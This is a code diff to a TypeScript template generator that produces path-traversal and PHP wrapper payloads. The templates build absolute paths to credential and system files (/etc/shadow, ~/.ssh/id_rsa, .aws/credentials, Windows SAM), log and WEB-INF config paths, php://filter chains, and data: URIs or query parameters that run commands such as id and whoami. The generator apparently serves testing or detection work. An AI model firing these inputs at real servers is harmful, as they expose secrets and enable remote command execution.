@@ -174,7 +174,7 @@ export const climbTemplates = family('path-traversal/climb', {
 });
 
 const absolutePrefix = oneOf('/', '/', '/', '//', '///', '/./', '\\', '\\\\', 'file:///', '/%2e/', '/..');
-const server = text`${words('access error access_log error_log messages wtmp dtmp lastlog my httpd php vsftpd pure-ftpd proftpd nginx shadow passwd syslog auth mysqld user db')}${oneOf('.log', '.conf', '.cnf', '.ini', '', '.pdb', '.log.1', '.0', '.old')}`;
+const server = text`${words('access error access_log error_log messages wtmp btmp lastlog my httpd php vsftpd pure-ftpd proftpd nginx shadow passwd syslog auth mysqld user db')}${oneOf('.log', '.conf', '.cnf', '.ini', '', '.log.1', '.0', '.old')}`;
 export const absoluteTemplates = family('path-traversal/absolute', {
   unix: text`${absolutePrefix}${unixFile}${extension}`,
   'unix-extra-slashes': altered(text`/${unixFile}${extension}`, (path, rng) =>
@@ -193,10 +193,10 @@ export const absoluteTemplates = family('path-traversal/absolute', {
   'application-absolute': text`/${maybe(text`${lowerWord}/`)}${oneOf('WEB-INF/web.xml', 'META-INF/context.xml', 'WEB-INF/classes/db.properties', text`..;/WEB-INF/web.xml`, text`static/..%2f${applicationFile}`, text`.//WEB-INF/web.xml`, text`%57EB-INF/web.xml`)}${extension}`,
   'server-logs': text`/${oneOf('var/log/', 'var/adm/', 'usr/local/', 'opt/', 'etc/', 'var/www/', 'usr/', 'home/', 'var/lib/', 'var/', 'logs/')}${oneOf(text`${words('apache apache2 apache-ssl httpd nginx lighttpd mysql postgresql tomcat pure-ftpd proftpd vsftpd exim squid samba php lampp cpanel lp sendmail')}/${words('logs log conf etc errors data')}/${server}`, text`${words('apache apache2 apache-ssl httpd nginx mysql php exim pure-ftpd')}/${server}`, server)}${extension}`,
   'server-folders': altered(
-    text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data webdav temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('webdav.txt access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`,
+    text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data htdocs temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`,
     (path, rng) => (rng.chance(0.6) ? path.replaceAll('/', '\\') : path)
   ),
-  'system-tools': text`/${words('usr/bin usr/sbin bin sbin usr/lib usr/lib/security usr/local/bin')}/${words('id passwd crontab mkuser.default sudo su ssh chsh mount iptables')}${extension}`,
+  'system-tools': text`/${words('usr/bin usr/sbin bin sbin usr/lib usr/local/bin')}/${words('id passwd crontab sudo su ssh chsh mount iptables')}${extension}`,
   wildcards: text`/${words('e?c/p?sswd e*c/p*d ???/passwd etc/pass?? e[t]c/p[a]sswd etc/{passwd,shadow} etc//passwd etc/./passwd //etc//passwd etc/passwd?a=b etc/passwd/. private/etc/passwd etc/passwd&')}${maybe(text`${words('# ; & ? ')}${lowerWord}`)}`,
   'home-tilde': text`${oneOf('/', '//', '../')}~${mostly([words('root admin www-data'), 2], [inventedWord, 1])}/.${words('ssh/id_rsa bash_history aws/credentials netrc mysql_history')}${extension}`
 });
@@ -228,7 +228,7 @@ export const wrapperTemplates = family('path-traversal/wrapper', {
   'filter-names': repeat(filter, 1, 6, oneOf('|', '/', '|')),
   'php-filter-chain': text`php://filter/${repeat(filter, 2, 5, '|')}/resource=${oneOf(wrapped, 'php://temp', 'data://,a')}`,
   'php-filter-fragment': text`${maybe('php://filter/')}${words('read write')}=${filter}/resource=${wrapped}`,
-  'php-input': text`${words('php PHP')}://${words('input stdin fd/0 memory temp output')}${maybe(oneOf('%00', '?', text`&cmd=${words('id ls whoami')}`))}`,
+  'php-input': text`${maybe(text`${words('page file include')}=`)}${words('php PHP')}://${words('input stdin fd/0 memory temp output')}${maybe(oneOf('%00', '?', text`&${words('cmd c x')}=${words('id ls whoami pwd uname')}`))}`,
   data: text`data:${dataType},${oneOf('', ' ')}<?${oneOf('php ', '=', 'php\n')}${phpCall}${maybe(' ?>')}`,
   'data-base64': text`data:${dataType};base64,${altered(text`<?php ${phpCall} ?>`, base64)}`,
   'data-short-tag': text`data:${dataType},<?=\`${words('id ls whoami pwd uname')}${maybe(' -la')}\`?>`,
